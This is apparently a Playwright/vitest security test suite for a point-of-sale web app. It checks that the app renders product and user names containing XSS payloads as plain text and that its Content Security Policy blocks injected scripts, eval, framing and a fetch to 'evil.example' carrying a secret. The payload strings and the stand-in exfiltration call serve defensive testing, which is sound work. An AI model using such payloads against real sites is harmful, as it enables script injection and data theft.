import type { BrowserContext, Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { demoDatabase } from './support/demo-database.ts'
import { browserForStories, openTill, signIn } from './support/lane.ts'
import { scan, sell, tick } from './support/sell.ts'
import { serverProcess } from './support/server-process.ts'
import { fullestShelves } from './support/shop-facts.ts'

const database = await demoDatabase()
const server = await serverProcess(database.url)
const stories = browserForStories()

/** What a name would do, were it taken for markup; it says where it came from. */
const evil = (where: string) =>
  `<img src=x onerror="hits.push('${where}')"><svg onload="hits.push('${where}')"><script>hits.push('${where}')</script>"'{{7*7}}`

/** Keeps a list of what ran, and of what the policy stopped: nothing may even have been tried. */
async function watch(context: BrowserContext): Promise<void> {
  await context.addInitScript(() => {
    const kept = { hits: [] as string[], stopped: [] as string[] }
    Object.assign(globalThis, kept)
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      // zod asks once whether it may evaluate text, and does without.
      if (blockedURI !== 'eval') kept.stopped.push(effectiveDirective)
    })
    window.print = () => void Object.assign(globalThis, { asked: true })
  })
}

async function seen(page: Page): Promise<{ hits: string[]; stopped: string[]; strange: number }> {
  return page.evaluate(() => {
    const { hits, stopped } = globalThis as unknown as { hits: string[]; stopped: string[] }
    return {
      hits,
      stopped,
      strange: document.querySelectorAll('img[src="x"], body svg[onload], body script').length,
    }
  })
}
const clean = { hits: [], stopped: [], strange: 0 }

test('names that are markup are read as they are written: at the till, on the receipt, in the grid, the archive and the desk', async () => {
  const [code = '', plain = ''] = await fullestShelves(database, 2)
  await database.query(
    `update products set title = $2, group_title = $2, vendor = $3, category = $4, variant_title = $2,
       seq = take_positions(tenant_id, '[["products", 1]]'::jsonb) + 1 where barcode = $1`,
    [code, evil('title'), evil('vendor').slice(0, 100), evil('category').slice(0, 100)],
  )
  await database.query('update users set name = $1 where email = $2', [
    evil('cashier').slice(0, 80),
    'cashier@demo.test',
  ])

  const till = await stories.lane(server.port, watch)
  await openTill(till)
  await scan(till.page, code)
  await till.page.getByText(evil('title')).first().waitFor()
  await till.page.keyboard.press('F10')
  const number = await tick(till.page)
  await till.page.getByRole('button', { name: 'Print receipt' }).click()
  await till.page.waitForFunction(() => (globalThis as { asked?: boolean }).asked)
  await till.page.emulateMedia({ media: 'print' })
  expect(await till.page.locator('body').innerText()).toContain(evil('title').slice(0, 20))
  expect(await seen(till.page)).toEqual(clean)
  await till.page.emulateMedia({ media: 'screen' })
  await sell(till.page, plain)

  const desk = await stories.lane(server.port, watch)
  const { page } = desk
  await signIn(desk, 'admin')
  await page.getByRole('link', { name: 'Products' }).first().waitFor()
  const looked: string[] = []
  for (const path of [
    '/home',
    '/products',
    '/archive',
    '/orders/all',
    '/customers',
    '/movements',
    '/reorder',
    '/audit',
    '/settings/people',
    '/account',
  ]) {
    await page.goto(`${new URL(page.url()).origin}${path}`)
    await page.getByRole('heading').first().waitFor()
    if (path === '/products') await page.getByText(evil('title').slice(0, 12)).first().waitFor()
    if (path === '/archive') await page.getByText(number).first().waitFor()
    expect([path, await seen(page)]).toEqual([path, clean])
    looked.push(path)
  }
  expect(looked).toHaveLength(10)
})

test('were a script to get into the page all the same, the policy would not let it run, call home or frame the app', async () => {
  const lane = await stories.installed(server.port, watch)
  const { page } = lane
  lane.expects.push(/Content Security Policy|violates|404|Failed to load|Refused/i)
  await page.getByLabel('Email').waitFor()
  const tried = await page.evaluate(async () => {
    const { stopped } = globalThis as unknown as { stopped: string[] }
    document.body.insertAdjacentHTML('beforeend', `<img src="/none.png" onerror="hits.push('attribute')">`)
    const inline = document.createElement('script')
    inline.textContent = `hits.push('inline')`
    document.body.append(inline)
    const foreign = document.createElement('script')
    foreign.src = 'https://evil.example/x.js'
    document.body.append(foreign)
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/'
    document.body.append(frame)
    // In a task of its own: what the test itself evaluates may evaluate further.
    const evaluated = await new Promise((done) =>
      setTimeout(() => {
        try {
          // oxlint-disable-next-line typescript/no-implied-eval -- whether it is stopped is the question
          new Function(`hits.push('eval')`)()
          done('ran')
        } catch {
          done('stopped')
        }
      }),
    )
    const called = await fetch('https://evil.example/?secret').then(
      () => 'got out',
      () => 'stopped',
    )
    await new Promise((done) => setTimeout(done, 500))
    return { evaluated, called, stopped: [...new Set(stopped)].toSorted() }
  })
  expect(tried).toEqual({
    evaluated: 'stopped',
    called: 'stopped',
    stopped: ['connect-src', 'frame-src', 'script-src-attr', 'script-src-elem'],
  })
  expect((await seen(page)).hits).toEqual([])
})
